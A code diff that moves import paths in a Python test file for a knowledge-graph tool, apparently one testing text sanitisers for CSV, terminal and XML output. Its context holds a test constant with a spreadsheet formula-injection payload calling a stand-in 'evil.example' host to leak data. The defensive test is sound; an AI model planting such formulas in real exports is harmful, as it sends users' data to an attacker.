@@ -20,9 +20,8 @@ from rdflib import Graph, Literal, URIRef
 from rdflib.namespace import SKOS
 
 from kg.cli import main
-from kg.safetext import csv_cell, terminal_text, xml_text
-
-from .conftest import SEEDS
+from kg.text.safetext import csv_cell, terminal_text, xml_text
+from tests.helpers import SEEDS
 
 WANG = URIRef("https://w3id.org/kg-jilin/id/person/wang-zilian")
 FORMULA = '=HYPERLINK("http://evil.example/?leak","Wang")'
